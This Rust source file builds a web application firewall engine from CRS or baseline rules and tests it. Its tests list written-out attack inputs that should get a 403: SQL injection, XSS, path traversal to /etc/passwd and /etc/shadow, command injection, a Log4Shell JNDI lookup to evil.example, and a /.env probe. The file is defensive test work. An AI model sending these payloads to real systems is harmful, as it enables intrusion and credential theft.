//! Building an engine the way a route asks for it: a rule file (or the built-in
//! baseline), a blocking or detecting mode, a CRS paranoia level and anomaly threshold,
//! and rule exclusions.

use std::path::Path;

use crate::engine::{CompileError, Engine};
use crate::seclang::{self, Directive, Location, ParseErrors};

/// The built-in baseline rules (`src/baseline.conf`).
pub const BASELINE: &str = include_str!("baseline.conf");

/// How a route's WAF is set up.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WafSettings {
    /// The rules' entry file, or an OWASP CRS directory (its `crs-setup.conf`, else
    /// `crs-setup.conf.example`, then `rules/*.conf`); `None` for the baseline.
    pub rules: Option<std::path::PathBuf>,
    /// Block (true) or only detect and log (false).
    pub block: bool,
    /// CRS paranoia level (1–4).
    pub paranoia: u8,
    /// CRS inbound anomaly score at which a request is blocked.
    pub anomaly_threshold: u32,
    /// Rule ids not to run.
    pub exclusions: Vec<u64>,
}

/// Why a WAF could not be built.
#[derive(Debug, thiserror::Error)]
pub enum BuildError {
    /// The rules do not parse.
    #[error("{0}")]
    Parse(#[from] ParseErrors),
    /// The rules do not compile.
    #[error("{}", .0.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n"))]
    Compile(Vec<CompileError>),
}

/// Builds the engine for `settings`.
pub fn build(settings: &WafSettings) -> Result<Engine, BuildError> {
    // CRS reads these at initialisation and keeps values that are already set.
    let setup = format!(
        "SecAction \"id:9000001,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level={pl},setvar:tx.detection_paranoia_level={pl},setvar:tx.inbound_anomaly_score_threshold={t},setvar:tx.outbound_anomaly_score_threshold=4\"\n",
        pl = settings.paranoia.clamp(1, 4),
        t = settings.anomaly_threshold.max(1),
    );
    let mut set = seclang::parse_str(&setup, Path::new("rampart-waf-setup.conf"))?;
    let rules = match &settings.rules {
        Some(dir) if dir.is_dir() => seclang::parse_str(
            &crate::conformance::crs_entry(dir),
            &dir.join("rampart-crs-entry.conf"),
        )?,
        Some(path) => seclang::load(path)?,
        None => seclang::parse_str(BASELINE, Path::new("rampart-baseline.conf"))?,
    };
    set.directives.extend(rules.directives);
    let location = Location {
        file: "rampart-waf-setup.conf".into(),
        line: 0,
    };
    if !settings.exclusions.is_empty() {
        set.directives.push((
            location.clone(),
            Directive::RemoveById(settings.exclusions.iter().map(|id| (*id, *id)).collect()),
        ));
    }
    set.directives.push((
        location,
        Directive::Setting(
            "SecRuleEngine".into(),
            if settings.block {
                "On"
            } else {
                "DetectionOnly"
            }
            .into(),
        ),
    ));
    Engine::compile(&set).map_err(BuildError::Compile)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::{Request, Transaction};

    fn verdict(engine: &Engine, uri: &str, body: &str) -> Option<u16> {
        let mut headers = vec![("Host".to_string(), "example.com".to_string())];
        if !body.is_empty() {
            headers.push((
                "Content-Type".into(),
                "application/x-www-form-urlencoded".into(),
            ));
        }
        let request = Request {
            method: if body.is_empty() { "GET" } else { "POST" }.into(),
            uri: uri.into(),
            protocol: "HTTP/1.1".into(),
            headers,
            body: body.as_bytes().to_vec(),
            remote_addr: "10.0.0.1".into(),
        };
        let mut tx = Transaction::new(engine, &request);
        tx.run_request_phases();
        tx.interruption
    }

    #[test]
    fn the_baseline_blocks_classic_attacks_and_lets_ordinary_traffic_through() {
        let engine = build(&WafSettings {
            rules: None,
            block: true,
            paranoia: 1,
            anomaly_threshold: 5,
            exclusions: vec![],
        })
        .expect("baseline builds");
        for attack in [
            "/search?q=1%27%20OR%20%271%27%3D%271",
            "/search?q=1 union all select password from users",
            "/p?name=%3Cscript%3Ealert(1)%3C/script%3E",
            "/p?u=javascript:alert(1)",
            "/p?x=%3Cimg%20src=x%20onerror=alert(1)%3E",
            "/static/..%2f..%2fetc/passwd",
            "/download?file=../../etc/shadow",
            "/p?cmd=1;cat%20/etc/hosts",
            "/p?x=${jndi:ldap://evil.example/a}",
            "/p?u=file:///etc/passwd",
            "/.env",
        ] {
            assert_eq!(
                verdict(&engine, attack, ""),
                Some(403),
                "{attack} not blocked"
            );
        }
        assert_eq!(
            verdict(&engine, "/login", "user=a&pass=%27%20or%201%3D1%20--"),
            Some(403)
        );
        for benign in [
            "/",
            "/products?q=select+a+blue+shirt",
            "/authors?name=O%27Reilly",
            "/search?q=union+station+from+chicago",
            "/docs/a.b/c..d",
            "/p?email=ann%40example.com&tags=a,b;c",
            "/api/v1/items/42?sort=-price&page=2",
        ] {
            assert_eq!(verdict(&engine, benign, ""), None, "{benign} blocked");
        }
        assert_eq!(
            verdict(&engine, "/comments", "text=I+love+scripts+and+cats"),
            None
        );
    }

    #[test]
    fn detect_mode_and_exclusions() {
        let detect = build(&WafSettings {
            rules: None,
            block: false,
            paranoia: 1,
            anomaly_threshold: 5,
            exclusions: vec![],
        })
        .expect("builds");
        assert_eq!(verdict(&detect, "/p?u=javascript:alert(1)", ""), None);
        let excluded = build(&WafSettings {
            rules: None,
            block: true,
            paranoia: 1,
            anomaly_threshold: 5,
            exclusions: vec![100002],
        })
        .expect("builds");
        assert_eq!(verdict(&excluded, "/p?u=javascript:alert(1)", ""), None);
        assert_eq!(
            verdict(&excluded, "/p?x=1;cat%20/etc/passwd", ""),
            Some(403)
        );
    }
}
